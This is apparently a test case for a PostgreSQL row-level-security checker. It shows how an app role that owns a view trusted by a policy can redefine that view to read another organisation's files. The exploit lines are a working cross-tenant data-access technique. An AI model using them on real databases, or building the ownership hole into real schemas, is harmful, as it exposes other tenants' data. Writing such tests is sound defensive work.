-- The view that a policy trusts belongs to the app role, which can redefine it.
-- object: rights.my_orgs
-- object: public.files
-- base: projects
--- setup
CREATE SCHEMA rights;
GRANT USAGE, CREATE ON SCHEMA rights TO {app};
CREATE VIEW rights.my_orgs WITH (security_invoker) AS SELECT id FROM public.orgs;
GRANT SELECT ON rights.my_orgs TO {app};
DROP POLICY org ON files;
CREATE POLICY org ON files USING (org_id IN (SELECT id FROM rights.my_orgs));
--- leak
RESET ROLE;
ALTER VIEW rights.my_orgs OWNER TO {app};
--- exploit
CREATE OR REPLACE VIEW rights.my_orgs AS SELECT '{B}'::uuid AS id;
SELECT name FROM files WHERE org_id = '{B}';
